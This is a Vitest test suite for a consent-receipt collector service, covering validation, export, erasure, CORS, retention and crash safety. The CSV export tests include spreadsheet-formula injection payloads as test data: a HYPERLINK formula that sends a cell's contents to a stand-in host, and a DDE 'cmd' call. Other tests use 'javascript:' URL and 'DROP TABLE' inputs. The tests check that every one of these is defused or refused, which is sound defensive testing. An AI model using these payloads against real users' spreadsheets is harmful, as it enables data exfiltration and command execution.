import { createConnection } from 'node:net';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { type Collector, createCollector } from './collector';
import type { CollectorOptions } from './config';
import { startProcess, TOKEN } from './process.testing';
import type { Receipt } from './receipt';
import { DAY_MS, RETENTION_INTERVAL_MS } from './retention';

const SHOP = 'https://www.shop.lv';
const VISITOR_ADDRESS = '203.0.113.7';
const USER_AGENT = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0 Safari/537.36';
const START = Date.parse('2026-05-04T09:30:00.000Z');

export const receipt = (over: Partial<Receipt> = {}): Receipt => ({
  format: 1,
  id: 'k3v9x0q2m7a1b5c8d4e6',
  decidedAt: '2026-05-04T09:29:58.000Z',
  revision: '2026-05',
  purposes: { necessary: true, analytics: true, marketing: false },
  lang: 'lv',
  source: 'preferences',
  url: 'https://www.shop.lv/lv/grozs?step=2',
  version: '0.1.0',
  shop: 'MonaOK',
  ...over,
});

interface HistoryEntry {
  receivedAt: string;
  ipHash: string;
  userAgent: string;
  receipt: Receipt;
}

/**
 * The collector's behaviour over HTTP, the same on every backend. `database` gives the address of a new,
 * empty database each time it is called.
 */
export const describeCollector = (database: () => Promise<string>) => {
  let now = START;
  let opened: Collector[] = [];

  const open = async (over: Partial<CollectorOptions> = {}) => {
    const collector = await createCollector({
      port: 0,
      host: '127.0.0.1',
      database: over.database ?? (await database()),
      token: TOKEN,
      allowedOrigins: [SHOP],
      retentionDays: 30,
      salt: null,
      trustProxy: false,
      logger: false,
      clock: () => now,
      ...over,
    });
    opened.push(collector);
    return collector;
  };

  afterEach(async () => {
    vi.useRealTimers();
    await Promise.all(opened.map((collector) => collector.close()));
    opened = [];
    now = START;
  });

  const send = (
    collector: Collector,
    body: unknown,
    headers: Record<string, string> = { 'content-type': 'text/plain;charset=UTF-8' },
    remoteAddress = VISITOR_ADDRESS,
  ) =>
    collector.app.inject({
      method: 'POST',
      url: '/receipts',
      headers: { 'user-agent': USER_AGENT, ...headers },
      payload: typeof body === 'string' ? body : JSON.stringify(body),
      remoteAddress,
    });

  const read = (collector: Collector, url: string, token: string | null = TOKEN, origin?: string) =>
    collector.app.inject({
      method: 'GET',
      url,
      headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...(origin ? { origin } : {}) },
    });

  const history = async (collector: Collector, consentId = receipt().id): Promise<HistoryEntry[]> => {
    const response = await read(collector, `/receipts?consentId=${consentId}`);
    expect(response.statusCode).toBe(200);
    return response.json().receipts;
  };

  const health = async (collector: Collector) => (await collector.app.inject({ url: '/health' })).json();

  describe('POST /receipts', () => {
    it('stores a receipt sent as sendBeacon sends it, with its arrival time, a hash of the address and the user agent', async () => {
      const collector = await open();
      const response = await send(collector, receipt());
      expect(response.statusCode).toBe(204);
      expect(response.body).toBe('');

      const [stored, ...more] = await history(collector);
      expect(more).toEqual([]);
      expect(stored.receipt).toEqual(receipt());
      expect(stored.receivedAt).toBe('2026-05-04T09:30:00.000Z');
      expect(stored.userAgent).toBe(USER_AGENT);
      expect(stored.ipHash).toMatch(/^[0-9a-f]{64}$/);
      const exported = await read(collector, '/receipts/export?format=jsonl');
      expect(exported.body).toContain(stored.ipHash);
      expect(exported.body).not.toContain(VISITOR_ADDRESS);
    });

    it('takes the receipt as application/json, or with no content type at all', async () => {
      const collector = await open();
      const json = await send(collector, receipt({ source: 'banner' }), { 'content-type': 'application/json' });
      const untyped = await send(collector, receipt({ source: 'api' }), {});
      expect([json.statusCode, untyped.statusCode]).toEqual([204, 204]);
      expect((await history(collector)).map((entry) => entry.receipt.source).sort()).toEqual(['api', 'banner']);
    });

    it.each([
      ['not JSON', '{"format":1,', /not valid JSON/],
      ['empty', '', /it is empty/],
      ['a JSON string, not an object', '"hello"', /must be object/],
    ])('refuses a body that is %s with 400 and a reason, and stores nothing', async (_case, body, reason) => {
      const collector = await open();
      const response = await send(collector, body);
      expect(response.statusCode).toBe(400);
      expect(response.headers['content-type']).toMatch(/^application\/json/);
      expect(response.json().message).toMatch(reason);
      expect((await health(collector)).receipts).toBe(0);
    });

    it.each([
      ['necessary refused', { purposes: { necessary: false, analytics: true } }, '/purposes/necessary'],
      [
        'a purpose given as the text "true"',
        { purposes: { necessary: true, analytics: 'true' } },
        '/purposes/analytics',
      ],
      ['a language the widget does not speak', { lang: 'ru' }, '/lang'],
      ['an unknown source', { source: 'sync' }, '/source'],
      ['a consent id in capitals', { id: 'K3V9X0Q2M7A1B5C8D4E6' }, '/id'],
      ['a page that is not http(s)', { url: 'javascript:alert(1)' }, '/url'],
      ['a field the schema does not know', { tracking: 'yes' }, 'tracking'],
      ['no decidedAt', { decidedAt: undefined }, 'decidedAt'],
    ])('refuses a receipt with %s (400, naming the field), and stores nothing', async (_case, change, field) => {
      const collector = await open();
      const response = await send(collector, { ...receipt(), ...change });
      expect(response.statusCode).toBe(400);
      expect(response.json()).toMatchObject({ error: 'invalid_receipt' });
      expect(response.json().message).toContain(field);
      expect((await health(collector)).receipts).toBe(0);
    });

    it('refuses a body over 4 KB with 413, and takes a receipt at the limits of the schema', async () => {
      const collector = await open();
      const padded = JSON.stringify(receipt()).replace('{', `{${' '.repeat(4096)}`);
      const tooLarge = await send(collector, padded);
      expect(tooLarge.statusCode).toBe(413);
      expect(tooLarge.json().message).toMatch(/at most 4096 bytes/);

      const largest = receipt({
        url: `https://www.shop.lv/${'a'.repeat(2048 - 'https://www.shop.lv/'.length)}`,
        shop: 'Ш'.repeat(80),
        version: 'v'.repeat(32),
        revision: 'r'.repeat(32),
        purposes: Object.fromEntries([
          ['necessary', true],
          ...Array.from({ length: 7 }, (_, index) => [`purpose-${index}-${'x'.repeat(14)}`, index % 2 === 0]),
        ]),
      });
      expect((await send(collector, largest)).statusCode).toBe(204);
      expect((await history(collector))[0].receipt).toEqual(largest);
    });

    it('answers a repeated receipt 204 and keeps it once, whatever the order of its keys', async () => {
      const collector = await open();
      const reordered = Object.fromEntries(Object.entries(receipt()).reverse());
      const answers = [
        await send(collector, receipt()),
        await send(collector, receipt()),
        await send(collector, reordered, { 'content-type': 'application/json' }),
      ];
      expect(answers.map((answer) => answer.statusCode)).toEqual([204, 204, 204]);
      expect(await history(collector)).toHaveLength(1);
      expect((await health(collector)).receipts).toBe(1);
    });

    it('keeps two different decisions made in the same second', async () => {
      const collector = await open();
      await send(collector, receipt({ purposes: { necessary: true, analytics: true, marketing: true } }));
      await send(collector, receipt({ purposes: { necessary: true, analytics: true, marketing: false } }));
      const marketing = (await history(collector)).map((entry) => entry.receipt.purposes.marketing);
      expect(marketing.sort()).toEqual([false, true]);
    });
  });

  describe('decidedAt: a real instant, from 2020 until the arrival plus the clock skew allowed', () => {
    it.each([
      ['a month and a time that do not exist', '2026-13-45T99:99:99Z', /not a date and time that exists/],
      ['the 30th of February', '2026-02-30T10:00:00Z', /not a date and time that exists/],
      ['a 61st second', '2026-05-04T09:29:60Z', /not a date and time that exists/],
      ['nothing but nines', '9999-99-99T99:99:99Z', /not a date and time that exists/],
      ['the year 9999', '9999-12-31T23:59:59Z', /later than the receipt's arrival/],
      ['more than 5 minutes after the arrival', '2026-05-04T09:35:01Z', /plus the 300 s of clock skew/],
      ['a day before 2020', '2019-12-31T23:59:59Z', /before 2020/],
    ])('refuses %s with 400, and stores nothing', async (_case, decidedAt, reason) => {
      const collector = await open();
      const response = await send(collector, receipt({ decidedAt }));
      expect(response.statusCode).toBe(400);
      expect(response.json()).toMatchObject({ error: 'invalid_receipt' });
      expect(response.json().message).toMatch(reason);
      expect((await health(collector)).receipts).toBe(0);
    });

    it('takes a leap day, 1 January 2020 and a clock 5 minutes fast; the skew allowed is a setting', async () => {
      const collector = await open();
      for (const decidedAt of ['2024-02-29T12:00:00Z', '2020-01-01T00:00:00Z', '2026-05-04T09:35:00.000Z'])
        expect((await send(collector, receipt({ decidedAt }))).statusCode).toBe(204);
      expect(await history(collector)).toHaveLength(3);

      const strict = await open({ clockSkewSeconds: 0 });
      expect((await send(strict, receipt({ decidedAt: '2026-05-04T09:30:00Z' }))).statusCode).toBe(204);
      const ahead = await send(strict, receipt({ decidedAt: '2026-05-04T09:30:01Z' }));
      expect(ahead.statusCode).toBe(400);
      expect(ahead.json().message).toMatch(/plus the 0 s of clock skew/);
    });

    it('says which receipt holds the decision in force and which arrived last, when a held-up beacon comes in late', async () => {
      const collector = await open();
      await send(collector, receipt({ decidedAt: '2026-05-04T09:29:58Z', purposes: { necessary: true } }));
      await send(collector, receipt({ id: 'someoneelse01' }));
      now += 60_000;
      await send(
        collector,
        receipt({ decidedAt: '2026-05-04T09:20:00Z', purposes: { necessary: true, marketing: true } }),
      );
      const response = (await read(collector, `/receipts?consentId=${receipt().id}`)).json();
      expect(response.receipts.map((entry: HistoryEntry) => [entry.receipt.decidedAt, entry.receivedAt])).toEqual([
        ['2026-05-04T09:20:00Z', '2026-05-04T09:31:00.000Z'],
        ['2026-05-04T09:29:58Z', '2026-05-04T09:30:00.000Z'],
      ]);
      expect([response.latest, response.lastArrived]).toEqual([1, 0]);
      expect((await read(collector, '/receipts?consentId=nobodyatall1')).json()).toMatchObject({
        receipts: [],
        latest: null,
        lastArrived: null,
      });
    });
  });

  describe('bytes kept exactly', () => {
    it('refuses a body that is not valid UTF-8 with 400 rather than storing U+FFFD, and keeps valid UTF-8 as sent', async () => {
      const collector = await open();
      const text = JSON.stringify(receipt({ shop: 'Cửa hàng Ωmega' }));
      const broken = Buffer.from(text, 'utf8');
      broken[broken.indexOf('Ω')] = 0xff;
      for (const payload of [broken, Buffer.from([0xc3, 0x28]), Buffer.from(text.replace('Ω', '\\uD800'), 'utf8')]) {
        const response = await collector.app.inject({ method: 'POST', url: '/receipts', payload });
        expect(response.statusCode).toBe(400);
        expect(response.json().message).toMatch(/not valid UTF-8|lone surrogate/);
      }
      expect((await health(collector)).receipts).toBe(0);
      expect(
        (await collector.app.inject({ method: 'POST', url: '/receipts', payload: Buffer.from(text) })).statusCode,
      ).toBe(204);
      expect((await history(collector))[0].receipt.shop).toBe('Cửa hàng Ωmega');
    });
  });

  describe('server timeouts', () => {
    it('closes connections whose headers or body never finish, and kept-alive ones left idle', {
      timeout: 30_000,
    }, async () => {
      const collector = await open({ timeouts: { headers: 1, request: 2, keepAlive: 1 } });
      const { port } = new URL(await collector.start());
      const connect = async (request: string) => {
        const socket = createConnection({ host: '127.0.0.1', port: Number(port) });
        let answer = '';
        socket.on('data', (chunk) => {
          answer += chunk;
        });
        const closed = new Promise<string>((resolve) => socket.once('close', () => resolve(answer)));
        socket.once('error', () => undefined);
        await new Promise((resolve) => socket.once('connect', resolve));
        socket.write(request);
        return closed;
      };
      const headersStalled = connect('POST /receipts HTTP/1.1\r\nHost: collector\r\nContent-Type: text/plain\r\n');
      const bodyStalled = connect(
        'POST /receipts HTTP/1.1\r\nHost: collector\r\nContent-Type: text/plain\r\nContent-Length: 400\r\n\r\n{"format":1,',
      );
      const idle = connect('GET /health HTTP/1.1\r\nHost: collector\r\nConnection: keep-alive\r\n\r\n');
      // Vitest's own time-out fails the test if any of them is never closed.
      const [headers, body, kept] = await Promise.all([headersStalled, bodyStalled, idle]);
      expect(headers).toMatch(/^HTTP\/1\.1 408/);
      expect(body).toMatch(/^HTTP\/1\.1 408/);
      expect(kept).toMatch(/^HTTP\/1\.1 200/);
      expect(kept).not.toMatch(/408/);
    });
  });

  describe('reading: GET /receipts and GET /receipts/export', () => {
    it.each(['/receipts?consentId=k3v9x0q2m7a1b5c8d4e6', '/receipts/export?format=csv'])(
      '%s answers 401 without a token or with a wrong one, and 200 with the right one',
      async (url) => {
        const collector = await open();
        await send(collector, receipt());
        const missing = await read(collector, url, null);
        const wrong = await read(collector, url, `${TOKEN}x`);
        const right = await read(collector, url);
        expect([missing.statusCode, wrong.statusCode, right.statusCode]).toEqual([401, 401, 200]);
        expect(missing.headers['www-authenticate']).toMatch(/^Bearer/);
        expect(wrong.body).not.toContain('k3v9x0q2m7a1b5c8d4e6');
        expect(right.body).toContain('k3v9x0q2m7a1b5c8d4e6');
      },
    );

    it('refuses every reader with 403 when the collector has no token, and still takes receipts', async () => {
      const collector = await open({ token: null });
      expect((await send(collector, receipt())).statusCode).toBe(204);
      const response = await read(collector, '/receipts?consentId=k3v9x0q2m7a1b5c8d4e6', TOKEN);
      expect(response.statusCode).toBe(403);
      expect(response.json().message).toMatch(/COLLECTOR_TOKEN/);
      expect((await read(collector, '/receipts/export?format=jsonl', TOKEN)).statusCode).toBe(403);
    });

    it("gives a visitor's decisions, oldest first, and no one else's", async () => {
      const collector = await open();
      await send(collector, receipt({ decidedAt: '2026-05-04T09:31:00.000Z', purposes: { necessary: true } }));
      await send(collector, receipt({ decidedAt: '2026-05-04T09:29:58.000Z' }));
      await send(collector, receipt({ id: 'someoneelse01' }));
      const decisions = (await history(collector)).map((entry) => entry.receipt.decidedAt);
      expect(decisions).toEqual(['2026-05-04T09:29:58.000Z', '2026-05-04T09:31:00.000Z']);
      expect(await history(collector, 'nobodyatall1')).toEqual([]);
      expect((await read(collector, '/receipts?consentId=DROP%20TABLE')).statusCode).toBe(400);
    });
  });

  describe('erasure on request: DELETE /receipts?consentId=', () => {
    const erase = (collector: Collector, consentId: string, token: string | null = TOKEN) =>
      collector.app.inject({
        method: 'DELETE',
        url: `/receipts?consentId=${consentId}`,
        headers: token ? { authorization: `Bearer ${token}` } : {},
      });

    it("erases every receipt of that visitor and no one else's, and records when and how many, not whose", async () => {
      const collector = await open();
      await send(collector, receipt({ decidedAt: '2026-05-04T09:29:00Z' }));
      await send(collector, receipt({ decidedAt: '2026-05-04T09:29:58Z' }));
      await send(collector, receipt({ id: 'someoneelse01' }));
      now += 60_000;
      const response = await erase(collector, receipt().id);
      expect(response.statusCode).toBe(200);
      expect(response.json()).toEqual({ consentId: receipt().id, erased: 2, at: '2026-05-04T09:31:00.000Z' });
      expect(await history(collector)).toEqual([]);
      expect(await history(collector, 'someoneelse01')).toHaveLength(1);
      expect((await read(collector, '/receipts/export?format=jsonl')).body).not.toContain(receipt().id);

      expect((await erase(collector, 'nobodyatall1')).json().erased).toBe(0);
      const erasures = await read(collector, '/erasures');
      expect(erasures.json()).toEqual({
        erasures: [
          { at: '2026-05-04T09:31:00.000Z', erased: 2 },
          { at: '2026-05-04T09:31:00.000Z', erased: 0 },
        ],
      });
      expect(erasures.body).not.toContain(receipt().id);
    });

    it('needs the token, and a consent id of the right form', async () => {
      const collector = await open();
      await send(collector, receipt());
      expect((await erase(collector, receipt().id, null)).statusCode).toBe(401);
      expect((await erase(collector, receipt().id, `${TOKEN}x`)).statusCode).toBe(401);
      expect((await read(collector, '/erasures', null)).statusCode).toBe(401);
      expect((await erase(collector, 'DROP%20TABLE')).statusCode).toBe(400);
      expect(
        (
          await collector.app.inject({
            method: 'DELETE',
            url: '/receipts',
            headers: { authorization: `Bearer ${TOKEN}` },
          })
        ).statusCode,
      ).toBe(400);
      expect(await history(collector)).toHaveLength(1);
      expect((await read(collector, '/erasures')).json()).toEqual({ erasures: [] });
    });
  });

  describe('export', () => {
    it('CSV: a header, one line per receipt in order of arrival, every cell quoted, quotes doubled, formulas defused', async () => {
      const collector = await open();
      await send(collector, receipt({ id: 'first0001', shop: 'ЖК "Migpromo", Алматы\nфилиал' }));
      now += 1000;
      await send(collector, receipt({ id: 'second001', url: 'https://www.shop.lv/?a=1,2', shop: undefined }), {
        'content-type': 'text/plain;charset=UTF-8',
        'user-agent': '=HYPERLINK("https://evil.example")',
      });
      const response = await read(collector, '/receipts/export?format=csv&from=2026-05-04&to=2026-05-04');
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
      expect(response.headers['content-disposition']).toBe('attachment; filename="receipts-2026-05-04-2026-05-04.csv"');
      const [first, second] = (await history(collector, 'first0001')).concat(await history(collector, 'second001'));
      expect(response.body).toBe(
        '\uFEFF"receivedAt","consentId","decidedAt","source","revision","lang","granted","refused","url","version","shop","userAgent","ipHash"\r\n' +
          '"2026-05-04T09:30:00.000Z","first0001","2026-05-04T09:29:58.000Z","preferences","2026-05","lv","necessary analytics","marketing",' +
          `"https://www.shop.lv/lv/grozs?step=2","0.1.0","ЖК ""Migpromo"", Алматы\nфилиал","${USER_AGENT}","${first.ipHash}"\r\n` +
          '"2026-05-04T09:30:01.000Z","second001","2026-05-04T09:29:58.000Z","preferences","2026-05","lv","necessary analytics","marketing",' +
          `"https://www.shop.lv/?a=1,2","0.1.0","","'=HYPERLINK(""https://evil.example"")","${second.ipHash}"\r\n`,
      );
    });

    it('CSV with sep=; for decimal-comma spreadsheets; a formula behind a NUL, a separator or a line break gets its quote as well', async () => {
      const collector = await open();
      await send(
        collector,
        receipt({ id: 'first0001', shop: '\u0000=HYPERLINK("http://x.example/?leak="&A2,"click")' }),
      );
      await send(collector, receipt({ id: 'second001', shop: 'x;=1+1', version: 'a,@SUM(1)' }));
      await send(collector, receipt({ id: 'third0001', shop: "MonaOK\n+cmd|' /C calc'!A0" }));
      const response = await read(collector, '/receipts/export?format=csv&sep=%3B');
      expect(response.statusCode).toBe(200);
      const [header, ...rows] = response.body.split('\r\n');
      expect(header).toMatch(/^\uFEFF"receivedAt";"consentId";"decidedAt";/);
      const cells = rows.filter(Boolean).map((row) => row.split('";"'));
      expect(cells.map((row) => row.length)).toEqual([13, 13, 13]);
      expect(cells.map((row) => [row[9], row[10]])).toEqual([
        ['0.1.0', `'\u0000=HYPERLINK(""http://x.example/?leak=""&A2,""click"")`],
        ["a,'@SUM(1)", "x;'=1+1"],
        ['0.1.0', "MonaOK\n'+cmd|' /C calc'!A0"],
      ]);
      expect((await read(collector, '/receipts/export?format=csv&sep=%7C')).statusCode).toBe(400);
    });

    it('JSONL: one stored receipt per line, as it was sent', async () => {
      const collector = await open();
      await send(collector, receipt({ id: 'first0001' }));
      await send(collector, receipt({ id: 'second001', lang: 'vi' }));
      const response = await read(collector, '/receipts/export?format=jsonl');
      expect(response.headers['content-type']).toMatch(/^application\/jsonl/);
      const lines = response.body
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line));
      expect(lines.map((line) => line.receipt)).toEqual([
        receipt({ id: 'first0001' }),
        receipt({ id: 'second001', lang: 'vi' }),
      ]);
      expect(lines[0]).toMatchObject({ receivedAt: '2026-05-04T09:30:00.000Z', userAgent: USER_AGENT });
    });

    it('selects by arrival time: from is inclusive, to exclusive, and a day alone means that whole day', async () => {
      const collector = await open();
      for (const [id, at] of [
        ['april30th', '2026-04-30T23:59:59.999Z'],
        ['may1st000', '2026-05-01T00:00:00.000Z'],
        ['may31st00', '2026-05-31T23:59:59.999Z'],
        ['june1st00', '2026-06-01T00:00:00.000Z'],
      ]) {
        now = Date.parse(at);
        // Decided before the first of them arrived; a decision may not be later than its arrival.
        await send(collector, receipt({ id, decidedAt: '2026-04-30T12:00:00Z' }));
      }
      const ids = async (query: string) =>
        (await read(collector, `/receipts/export?format=jsonl&${query}`)).body
          .trimEnd()
          .split('\n')
          .filter(Boolean)
          .map((line) => JSON.parse(line).receipt.id);
      expect(await ids('from=2026-05-01&to=2026-05-31')).toEqual(['may1st000', 'may31st00']);
      expect(await ids('from=2026-05-01T00:00:00Z&to=2026-05-31T23:59:59.999Z')).toEqual(['may1st000']);
      expect(await ids('to=2026-05-01')).toEqual(['april30th', 'may1st000']);
      expect(await ids('from=2026-06-01')).toEqual(['june1st00']);
    });

    it('streams a long export complete, across pages of receipts that arrived in the same millisecond', async () => {
      const collector = await open();
      const ids = Array.from({ length: 1203 }, (_, index) => `bulk${String(index).padStart(6, '0')}`);
      await Promise.all(ids.map((id) => send(collector, receipt({ id }))));
      const body = (await read(collector, '/receipts/export?format=jsonl')).body;
      const exported = body
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line).receipt.id);
      expect(exported.sort()).toEqual(ids);
    });

    it.each([
      ['no format', '/receipts/export', /format/],
      ['an unknown format', '/receipts/export?format=xlsx', /csv, jsonl/],
      ['a date that is not one', '/receipts/export?format=csv&from=yesterday', /from/],
      ['a date that does not exist', '/receipts/export?format=csv&from=2026-02-30', /real dates/],
      ['from after to', '/receipts/export?format=csv&from=2026-06-01&to=2026-05-01', /before/],
    ])('answers 400 to %s', async (_case, url, reason) => {
      const collector = await open();
      const response = await read(collector, url);
      expect(response.statusCode).toBe(400);
      expect(response.json().message).toMatch(reason);
    });
  });

  describe('CORS', () => {
    it('answers an allowed origin, preflight included, so a page there can read with the token', async () => {
      const collector = await open();
      const preflight = await collector.app.inject({
        method: 'OPTIONS',
        url: '/receipts?consentId=k3v9x0q2m7a1b5c8d4e6',
        headers: {
          origin: SHOP,
          'access-control-request-method': 'GET',
          'access-control-request-headers': 'authorization',
        },
      });
      expect(preflight.statusCode).toBe(204);
      expect(preflight.headers['access-control-allow-origin']).toBe(SHOP);
      expect(preflight.headers['access-control-allow-headers']).toMatch(/Authorization/);
      expect(preflight.headers['access-control-allow-methods']).toMatch(/GET/);
      const response = await read(collector, '/receipts?consentId=k3v9x0q2m7a1b5c8d4e6', TOKEN, SHOP);
      expect(response.headers['access-control-allow-origin']).toBe(SHOP);
    });

    it('gives another origin no CORS headers, but stores its text/plain receipt: a beacon needs none', async () => {
      const collector = await open();
      const other = 'https://evil.example';
      const preflight = await collector.app.inject({
        method: 'OPTIONS',
        url: '/receipts/export?format=csv',
        headers: { origin: other, 'access-control-request-method': 'GET' },
      });
      expect(preflight.headers['access-control-allow-origin']).toBeUndefined();
      const beacon = await send(collector, receipt(), { 'content-type': 'text/plain;charset=UTF-8', origin: other });
      expect(beacon.statusCode).toBe(204);
      expect(beacon.headers['access-control-allow-origin']).toBeUndefined();
      expect(await history(collector)).toHaveLength(1);
    });

    it('answers a plain OPTIONS request 204', async () => {
      const collector = await open();
      expect((await collector.app.inject({ method: 'OPTIONS', url: '/receipts' })).statusCode).toBe(204);
    });
  });

  describe('retention', () => {
    it('deletes the receipts received more than RETENTION_DAYS ago, and /health counts the deletion', async () => {
      const collector = await open({ retentionDays: 30 });
      await send(collector, receipt({ id: 'oldvisitor1' }));
      await send(collector, receipt({ id: 'oldvisitor2' }));
      now += 20 * DAY_MS;
      await send(collector, receipt({ id: 'newvisitor1' }));
      now += 11 * DAY_MS;

      expect(await collector.runRetention()).toBe(2);
      expect(await history(collector, 'oldvisitor1')).toEqual([]);
      expect(await history(collector, 'oldvisitor2')).toEqual([]);
      expect(await history(collector, 'newvisitor1')).toHaveLength(1);
      expect((await health(collector)).retention).toEqual({
        days: 30,
        lastRunAt: new Date(now).toISOString(),
        deleted: 2,
        lastDeletionAt: new Date(now).toISOString(),
      });
      expect((await health(collector)).receipts).toBe(1);
      expect(await collector.runRetention()).toBe(0);
      expect((await health(collector)).retention.deleted).toBe(2);
    });

    it('cleans up on its own every hour once started', async () => {
      vi.useFakeTimers({ toFake: ['setInterval'] });
      const collector = await open({ retentionDays: 1 });
      await send(collector, receipt());
      await collector.start();
      // The clean-up at start, with nothing old enough yet, must be over before the clock moves on.
      await vi.waitFor(async () => expect((await health(collector)).retention.lastRunAt).not.toBeNull());
      now += 2 * DAY_MS;
      vi.advanceTimersByTime(RETENTION_INTERVAL_MS);
      await vi.waitFor(async () => expect((await health(collector)).retention.deleted).toBe(1));
      expect(await history(collector)).toEqual([]);
    });
  });

  describe('client address', () => {
    it('hashes one address alike across restarts with the salt kept in the database, and others not', async () => {
      const url = await database();
      const first = await open({ database: url });
      await send(first, receipt({ id: 'visitor01' }));
      await first.close();
      const again = await open({ database: url });
      await send(again, receipt({ id: 'visitor02' }));
      await send(again, receipt({ id: 'visitor03' }), undefined, '198.51.100.4');
      const [one, two, other] = await Promise.all(
        ['visitor01', 'visitor02', 'visitor03'].map(async (id) => (await history(again, id))[0].ipHash),
      );
      expect(two).toBe(one);
      expect(other).not.toBe(one);

      const elsewhere = await open({ salt: 'another-salt-0123456789' });
      await send(elsewhere, receipt({ id: 'visitor04' }));
      expect((await history(elsewhere, 'visitor04'))[0].ipHash).not.toBe(one);
    });

    it('takes the address from X-Forwarded-For only when the request comes from a proxy in TRUST_PROXY', async () => {
      const salt = 'a-shared-salt-0123456789';
      const direct = await open({ salt });
      await send(direct, receipt({ id: 'direct001' }));
      const [visitor] = await history(direct, 'direct001');

      const proxied = await open({ salt, trustProxy: ['127.0.0.1'] });
      const forwarded = { 'content-type': 'text/plain', 'x-forwarded-for': VISITOR_ADDRESS };
      await send(proxied, receipt({ id: 'proxied01' }), forwarded, '127.0.0.1');
      await send(proxied, receipt({ id: 'spoofed01' }), forwarded, '198.51.100.4');
      expect((await history(proxied, 'proxied01'))[0].ipHash).toBe(visitor.ipHash);
      expect((await history(proxied, 'spoofed01'))[0].ipHash).not.toBe(visitor.ipHash);
    });
  });
};

/**
 * The promise of a 204: a collector killed with SIGKILL in the middle of a stream of receipts, then started
 * again on the same database, has every receipt it acknowledged before it died, and counts each once.
 */
export const describeCrashSafety = (database: () => Promise<string>) => {
  it('keeps every acknowledged receipt, once, when the process is killed with SIGKILL mid-load; /health is ok and /stats counts each once after the restart', {
    timeout: 60_000,
  }, async () => {
    const env = { DATABASE_URL: await database() };
    const first = await startProcess(env);
    const acknowledged = new Set<string>();
    let sent = 0;
    const sender = async () => {
      for (;;) {
        const id = `crash${String(sent++).padStart(8, '0')}`;
        try {
          const response = await fetch(`${first.url}/receipts`, {
            method: 'POST',
            headers: { 'content-type': 'text/plain;charset=UTF-8' },
            body: JSON.stringify(receipt({ id })),
          });
          if (response.status === 204) acknowledged.add(id);
          if (acknowledged.size === 400) first.child.kill('SIGKILL');
        } catch {
          return; // the collector is gone
        }
      }
    };
    const killed = new Promise((resolve) => first.child.once('exit', (_code, signal) => resolve(signal)));
    await Promise.all(Array.from({ length: 8 }, sender));
    expect(await killed).toBe('SIGKILL');

    const second = await startProcess(env);
    try {
      const response = await fetch(`${second.url}/receipts/export?format=jsonl`, {
        headers: { authorization: `Bearer ${TOKEN}` },
      });
      const stored = (await response.text())
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line).receipt.id as string);
      expect(acknowledged.size).toBeGreaterThanOrEqual(400);
      expect([...acknowledged].filter((id) => !stored.includes(id))).toEqual([]);
      expect(new Set(stored).size).toBe(stored.length);
      const health = await fetch(`${second.url}/health`);
      expect(health.status).toBe(200);
      expect(await health.json()).toMatchObject({ status: 'ok', receipts: stored.length });
      // The rollup's steps ran beside the writes until the kill: every stored receipt is counted, once.
      const stats = await fetch(`${second.url}/stats?from=2026-05-04&to=2026-05-04`, {
        headers: { authorization: `Bearer ${TOKEN}` },
      });
      const { decisions } = (await stats.json()) as { decisions: Record<string, number[]> };
      expect(
        Object.values(decisions)
          .flat()
          .reduce((sum, count) => sum + count, 0),
      ).toBe(stored.length);
    } finally {
      const stopped = new Promise((resolve) => second.child.once('exit', resolve));
      second.child.kill('SIGTERM');
      await stopped;
    }
  });
};
